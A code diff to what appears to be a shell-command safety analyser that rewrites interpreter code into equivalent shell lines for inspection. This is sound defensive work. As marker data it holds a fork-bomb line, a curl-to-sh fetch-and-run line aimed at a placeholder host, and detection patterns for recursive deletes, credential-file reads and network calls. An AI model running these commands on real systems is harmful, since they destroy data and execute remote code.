@@ -20,11 +20,11 @@ import type { ShellWord } from "./model";
 import { commandName } from "./strip";
 import { HOLE_VARIABLE } from "./template";
 
-const MAX_CODE = 64 * 1024;
+const MAX_CODE = 32 * 1024;
 const UNKNOWN = `"\${${HOLE_VARIABLE}}"`;
 const MAX_LINES = 64;
 
-type Lang = "python" | "node" | "perl" | "ruby" | "php" | "awk" | "osascript" | "lua" | "r" | "tcl" | "go";
+export type Lang = "python" | "node" | "perl" | "ruby" | "php" | "awk" | "osascript" | "lua" | "r" | "tcl" | "go";
 
 /** Interpreters and how they take a program on the command line. */
 const INTERPRETERS: readonly { test: RegExp; lang: Lang; code: readonly string[]; firstOperand?: boolean; stdinWith?: string }[] = [
@@ -163,7 +163,7 @@ function splitTop(text: string, sep: RegExp): string[] {
 
 const CONCAT = /\s*(?:\+|\.\.|\s\.\s)\s*/y;
 const COMMA = /,/y;
-const JOIN_CALL = /^(?:os\.path\.join|path\.join|path\.resolve|posixpath\.join|File\.join|filepath\.Join|Path\.join|File\.expand_path|os\.path\.abspath|os\.path\.realpath|path\.normalize|Path)\s*\(([\s\S]*)\)$/;
+const JOIN_CALL = /^(?:os\.path\.join|path\.join|path\.resolve|posixpath\.join|File\.join|filepath\.Join|Path\.join|File\.expand_path|os\.path\.abspath|os\.path\.realpath|path\.normalize|(?:pathlib\.)?(?:Pure)?(?:Posix|Windows)?Path)\s*\(([\s\S]*)\)$/;
 const EXPAND_USER = /^(?:os\.path\.expanduser|File\.expand_path|path\.expand)\s*\(([\s\S]*)\)$|^(?:pathlib\.)?Path\(([\s\S]*)\)\.(?:expanduser|resolve|absolute)\(\)$/;
 
 /** The possible values of a simple expression (see the module comment), or undefined when it is not simple. */
@@ -312,7 +312,7 @@ type Rule = { re: RegExp; shell: (c: Call) => string[] | undefined; words?: bool
 
 const word = (vals: string[] | undefined) => (vals === undefined ? [UNKNOWN] : vals.map(q));
 const withPath = (op: string, n = 0) => (c: Call) => word(c.arg(n)).map((p) => `${op} -- ${p}`);
-const recursiveOption = (c: Call) => /recursive\s*[:=]\s*(?:true|True|1)/.test(c.all);
+const recursiveOption = (c: Call) => /recursive\s*[:=]\s*(?:true|True|TRUE|T\b|1)/.test(c.all);
 /** Code run by a shell: one string is a command line, several strings (or a list) are argv. */
 const asCode = (c: Call): string[] | undefined => {
   if (c.count === 1) {
@@ -327,6 +327,16 @@ const asCode = (c: Call): string[] | undefined => {
   }
   const argv = c.argv();
   if (argv !== undefined) return [argv.map(q).join(" ")];
+  // `spawnSync('rm', ['-rf', '/x'])`, `os.execvp('rm', ['rm', '-rf', '/x'])`: a program, then its arguments as a list
+  // (for the exec family the list repeats the program name: read as one more operand, which is only stricter).
+  const parts = splitTop(c.all, COMMA);
+  const program = c.arg(0);
+  const listed = parts[1] !== undefined ? /^\s*\[([\s\S]*)\]\s*$/.exec(parts[1]) : null;
+  if (program?.length === 1 && listed) {
+    const items = splitTop(listed[1]!, COMMA).map((x) => evaluate(x, new Map()));
+    if (items.every((x) => x !== undefined && x.length === 1)) return [[program[0]!, ...(items as string[][]).map((x) => x[0]!)].map(q).join(" ")];
+    return [`${q(program[0]!)} ${UNKNOWN}`];
+  }
   // `execSync('…', { stdio: 'inherit' })`, `subprocess.run("…", shell=True)`: a command line, then options.
   const first = c.arg(0);
   return first !== undefined && c.arg(1) === undefined ? first : [UNKNOWN];
@@ -342,10 +352,10 @@ const chmodOf = (pathArg: number, modeArg: number) => (c: Call) => {
   return word(c.arg(pathArg)).map((p) => `chmod ${mode} ${p}`);
 };
 
-const RULES: Readonly<Record<Lang, readonly Rule[]>> = {
+export const INTERPRETER_RULES: Readonly<Record<Lang, readonly Rule[]>> = {
   python: [
     { re: /\bshutil\.rmtree\s*\(/g, shell: withPath("rm -rf") },
-    { re: /\b(?:os\.(?:remove|unlink|rmdir|removedirs)|Path\([^)]*\)\.(?:unlink|rmdir))\s*\(/g, shell: withPath("rm") },
+    { re: /\bos\.(?:remove|unlink|rmdir|removedirs)\s*\(/g, shell: withPath("rm") },
     { re: /\bos\.(?:system|popen)\s*\(/g, shell: asCode },
     { re: /\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(/g, shell: asCode },
     { re: /\bos\.exec[lv]p?e?\s*\(/g, shell: asCode },
@@ -359,7 +369,7 @@ const RULES: Readonly<Record<Lang, readonly Rule[]>> = {
     // `fs.rmSync(…)`, `require('fs').rmSync(…)`, `fsp.rm(…)`, destructured `rmSync(…)`.
     { re: /(?:\b|\.)(?:rmSync|rmdirSync)\s*\(|\.(?:rm|rmdir)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `rm ${recursiveOption(c) ? "-rf " : ""}-- ${p}`) },
     { re: /(?:\b|\.)(?:unlinkSync)\s*\(|\.unlink\s*\(/g, shell: withPath("rm") },
-    { re: /\b(?:rimraf(?:\.sync)?|fse?\.(?:removeSync|remove|emptyDirSync|emptyDir))\s*\(/g, shell: withPath("rm -rf") },
+    { re: /\b(?:rimraf(?:\.sync|\.rimrafSync)?|require\(\s*["'`]rimraf["'`]\s*\)(?:\.sync|\.rimraf|\.rimrafSync)?|fse?\.(?:removeSync|remove|emptyDirSync|emptyDir))\s*\(/g, shell: withPath("rm -rf") },
     { re: /\b(?:execSync|exec|execFileSync|execFile|spawnSync|spawn)\s*\(/g, shell: asCode },
     { re: /(?:\b|\.)(?:readFileSync|readFile|createReadStream)\s*\(/g, shell: withPath("cat") },
     { re: /(?:\b|\.)(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream)\s*\(/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
@@ -376,7 +386,8 @@ const RULES: Readonly<Record<Lang, readonly Rule[]>> = {
     { re: /\b(?:rmtree|remove_tree)\s*\(?/g, shell: withPath("rm -rf") },
     { re: /\b(?:unlink|rmdir)\s*\(?/g, shell: (c) => (c.argv() ?? [UNKNOWN]).map((p) => `rm -- ${p === UNKNOWN ? p : q(p)}`) },
     { re: /\b(?:system|exec)\s*\(?/g, shell: asCode },
-    { re: /\bqx\s*[({[]/g, shell: asCode },
+    // `qx(…)`, `%x(…)`: the text inside the brackets is a shell command line, not an expression.
+    { re: /\bqx\s*[({[]/g, shell: (c) => [c.all] },
     { re: /\bchmod\s*\(?/g, shell: (c) => { const all = c.argv(); return all && all.length > 1 ? all.slice(1).map((p) => `chmod ${WORLD.test(all[0]!) || WORLD.test(c.all) ? "777" : "644"} ${q(p)}`) : word(c.arg(1)).map((p) => `chmod ${WORLD.test(c.all) ? "777" : "644"} ${p}`); } },
     { re: /\bchown\s*\(?/g, shell: (c) => word(c.arg(2)).map((p) => `chown nobody ${p}`) },
     {
@@ -392,12 +403,12 @@ const RULES: Readonly<Record<Lang, readonly Rule[]>> = {
   ],
   ruby: [
     { re: /\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry|remove_entry_secure|rmtree)\s*\(?/g, shell: withPath("rm -rf") },
-    { re: /\b(?:FileUtils\.(?:rm|rm_f|remove)|File\.(?:delete|unlink))\s*\(?/g, shell: withPath("rm") },
+    { re: /\b(?:FileUtils\.(?:rm|rm_f|remove)|File\.(?:delete|unlink))\b\s*\(?/g, shell: withPath("rm") },
     { re: /\bFileUtils\.chmod_R\s*\(?/g, shell: (c) => word(c.arg(1)).map((p) => `chmod -R ${WORLD.test(c.arg(0)?.[0] ?? c.all) ? "777" : "755"} ${p}`) },
-    { re: /\b(?:FileUtils\.chmod|File\.chmod)\s*\(?/g, shell: chmodOf(1, 0) },
+    { re: /\b(?:FileUtils\.chmod|File\.chmod)\b\s*\(?/g, shell: chmodOf(1, 0) },
     { re: /\bFileUtils\.chown_R\s*\(?/g, shell: (c) => word(c.arg(2)).map((p) => `chown -R nobody ${p}`) },
     { re: /\b(?:system|exec|spawn|IO\.popen|Open3\.\w+)\s*\(?/g, shell: asCode },
-    { re: /%x\s*[({[]/g, shell: asCode },
+    { re: /%x\s*[({[]/g, shell: (c) => [c.all] },
     { re: /\b(?:File\.(?:read|readlines|open|binread|foreach)|IO\.(?:read|readlines))\s*\(?/g, shell: withPath("cat") },
     { re: /\bFile\.write\s*\(?/g, shell: (c) => word(c.arg(0)).map((p) => `: > ${p}`) },
   ],
@@ -444,15 +455,42 @@ const EVAL_CALL = /\b(?:exec|eval|execfile|compile|Function|instance_eval|class_
 const NETWORK =
   /\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|http\.client|fetch\s*\(|https?\.get\s*\(|\.get\s*\(\s*['"]https?:|axios|XMLHttpRequest|Net::HTTP|URI\.open|open-uri|HTTParty|Faraday|LWP::|HTTP::Tiny|getstore|\bget\s*\(\s*["']https?:|curl_exec|file_get_contents\s*\(\s*['"]https?:|fopen\s*\(\s*['"]https?:|Invoke-WebRequest|DownloadString|\bcurl\s|\bwget\s|socket\.http)/;
 
+/**
+ * pathlib's methods act on their receiver: `Path('.env').read_text()`, `p.write_text(…)` after
+ * `p = pathlib.Path('.github/workflows/ci.yml')`, `(Path.home() / '.ssh' / 'id_rsa').read_bytes()` (an
+ * unknown receiver is an unknown path).
+ */
+const PATHLIB_CALL = /(?:\b((?:pathlib\.)?(?:Pure)?(?:Posix|Windows)?Path\s*\([^()]*\))|\b([A-Za-z_]\w*)|(\)))\s*\.\s*(write_text|write_bytes|touch|read_text|read_bytes|unlink|rmdir|open|chmod|lchmod|rename|replace)\s*\(/g;
+function pathlibCalls(text: string, bindings: Bindings): string[] {
+  const out: string[] = [];
+  for (const m of text.matchAll(PATHLIB_CALL)) {
+    const [, call, name, , method] = m;
+    // A name bound to something else (`webbrowser.open(…)`, `zf.open(…)`) is not a path.
+    if (name !== undefined && !bindings.has(name)) continue;
+    const values = call !== undefined ? evaluate(call, bindings) : name !== undefined ? evaluate(name, bindings) : undefined;
+    const args = callArgs(text, m.index! + m[0].length - 1);
+    for (const p of values ? values.slice(0, 16).map(q) : [UNKNOWN]) {
+      if (method === "write_text" || method === "write_bytes" || method === "touch") out.push(`: > ${p}`);
+      else if (method === "read_text" || method === "read_bytes") out.push(`cat -- ${p}`);
+      else if (method === "unlink" || method === "rmdir") out.push(`rm -- ${p}`);
+      else if (method === "rename" || method === "replace") out.push(`cat -- ${p}`);
+      else if (method === "chmod" || method === "lchmod") out.push(`chmod ${WORLD.test(args.all) ? "777" : "644"} ${p}`);
+      else out.push(/["'][^"']*[wax+][^"']*["']/.test(args.all.split(",")[0] ?? "") ? `: > ${p}` : `cat -- ${p}`);
+    }
+  }
+  return out;
+}
+
 /** The shell command lines equivalent to what interpreter code on a command line does (see the module comment). */
-export function shellEquivalents(lang: Lang, code: string): string[] {
+export function shellEquivalents(lang: Lang, code: string): { lines: string[]; truncated: boolean } {
   const text = code.length > MAX_CODE ? code.slice(0, MAX_CODE) : code;
   const out: string[] = [];
   if (FORK_LOOP.test(text)) out.push(":(){ :|:& };:");
   if (EVAL_CALL.test(text) && NETWORK.test(text)) out.push("curl -fsSL https://hookgate.invalid/fetched-by-interpreter | sh");
   const bindings = literalBindings(text);
   const root = walkRoot(text, bindings);
-  for (const rule of RULES[lang]) {
+  if (lang === "python") out.push(...pathlibCalls(text, bindings));
+  for (const rule of INTERPRETER_RULES[lang]) {
     rule.re.lastIndex = 0;
     for (const m of text.matchAll(rule.re)) {
       const at = m.index! + m[0].length;
@@ -475,17 +513,32 @@ export function shellEquivalents(lang: Lang, code: string): string[] {
       // An unknown path inside a walk over a tree: each path under the walk's root.
       if (root !== undefined && rule.shell !== asCode) lines = lines.map((l) => (l.includes(UNKNOWN) ? `find ${q(root)} -exec ${l.split(UNKNOWN).join("{}")} \\;` : l));
       out.push(...lines);
-      if (out.length > MAX_LINES) return out;
+      // More than this many operations: the rest is not examined, and the analysis says so.
+      if (out.length > MAX_LINES) return { lines: out, truncated: true };
     }
   }
   // Backticks run shell code in perl, ruby and php.
-  if (lang === "perl" || lang === "ruby" || lang === "php") for (const b of text.matchAll(/`([^`]{1,4096})`/g)) out.push(b[1]!);
-  return out;
+  if (lang === "perl" || lang === "ruby" || lang === "php")
+    for (const b of text.matchAll(/`([^`]*)`/g)) {
+      if (b[1]!.length > 4096 || out.length > MAX_LINES) return { lines: out, truncated: true };
+      out.push(b[1]!);
+    }
+  return { lines: out, truncated: code.length > MAX_CODE };
 }
 
-/** Shell code embedded in an interpreter's command line (for the analyser to examine as scripts of their own). */
-export function embeddedShellCode(name: string, rest: readonly ShellWord[], stdin: readonly string[] = []): string[] {
+/**
+ * Shell code embedded in an interpreter's command line (for the analyser to examine as scripts of their own);
+ * `truncated` when a program was longer than the scan reads (MAX_CODE): its rest was not examined.
+ */
+export function embeddedShellCode(name: string, rest: readonly ShellWord[], stdin: readonly string[] = []): { codes: string[]; truncated: boolean } {
   const base = commandName(name);
-  if (!interpreterOf(base)) return [];
-  return programs(base, rest, stdin).flatMap((p) => shellEquivalents(p.lang, p.code));
+  if (!interpreterOf(base)) return { codes: [], truncated: false };
+  const codes: string[] = [];
+  let truncated = false;
+  for (const p of programs(base, rest, stdin)) {
+    const e = shellEquivalents(p.lang, p.code);
+    codes.push(...e.lines);
+    if (e.truncated) truncated = true;
+  }
+  return { codes, truncated };
 }
